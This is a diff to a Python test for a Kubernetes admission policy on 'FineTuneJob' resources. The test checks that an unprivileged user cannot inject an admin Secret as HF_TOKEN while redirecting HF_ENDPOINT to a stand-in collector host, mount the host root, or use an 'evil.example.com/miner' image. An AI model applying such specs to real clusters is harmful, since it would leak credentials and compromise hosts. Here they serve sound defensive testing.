@@ -212,10 +212,10 @@ def test_the_admission_policy_keeps_pod_powers_with_who_has_them(cluster, monito
                     "verbs": ["use"]}]}))
     plane.kubectl("create", "rolebinding", "alice-irsa", "--role=use-irsa", "--user=alice", "-n", ns)
 
-    def create(user: str, name: str, **resources: object) -> subprocess.CompletedProcess:
+    def create(user: str, name: str, storage: dict | None = None, **resources: object) -> subprocess.CompletedProcess:
         doc = {"apiVersion": "kubetune.io/v1alpha1", "kind": "FineTuneJob", "metadata": {"name": name, "namespace": ns},
                "spec": {"model": {"uri": "hf://org/model"}, "dataset": {"uri": "s3://data/train.jsonl"},
-                        "resources": resources}}
+                        "resources": resources, **({"storage": storage} if storage else {})}}
         return plane.kubectl("create", "--dry-run=server", "--as", user, "-f", "-", input=yaml.safe_dump(doc),
                              check=False)
 
@@ -227,13 +227,21 @@ def test_the_admission_policy_keeps_pod_powers_with_who_has_them(cluster, monito
         assert refused.returncode != 0 and "spec.resources.image: alice may not run the image" in refused.stderr
         refused = create("alice", "j", volumes=[{"name": "host", "hostPath": {"path": "/"}}])
         assert refused.returncode != 0 and "spec.resources.volumes" in refused.stderr
+        stolen = [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "admin-token", "key": "token"}}},
+                  {"name": "HF_ENDPOINT", "value": "https://collector.example.com"}]
+        refused = create("alice", "j", env=stolen)
+        assert refused.returncode != 0 and "spec.resources.env: alice may not fill" in refused.stderr
+        refused = create("alice", "j", storage={"secretRef": "admin-token"})
+        assert refused.returncode != 0 and "spec.storage.secretRef: alice may not hand the Secret" in refused.stderr
+        assert create("alice", "j", env=[{"name": "NCCL_DEBUG", "value": "INFO"}]).returncode == 0
         for allowed in ({}, {"serviceAccountName": "s3-irsa"}, {"image": "registry.example.com/ml/kubetune:1"}):
             proc = create("alice", "j", **allowed)
             assert proc.returncode == 0, (allowed, proc.stderr)
         for allowed in ({"serviceAccountName": "admin"}, {"image": "evil.example.com/miner:1"},
-                        {"volumes": [{"name": "scratch", "emptyDir": {}}]}):
+                        {"volumes": [{"name": "scratch", "emptyDir": {}}]}, {"env": stolen}):
             proc = create("bob", "j", **allowed)  # bob may create pods: kubetune gives him nothing new
             assert proc.returncode == 0, (allowed, proc.stderr)
+        assert create("bob", "j", storage={"secretRef": "admin-token"}).returncode == 0
         # An update that leaves them unchanged passes for anyone who may edit (the operator's metadata writes too).
         plane.kubectl("apply", "-f", "-", input=yaml.safe_dump(
             {"apiVersion": "kubetune.io/v1alpha1", "kind": "FineTuneJob", "metadata": {"name": "bobs", "namespace": ns},
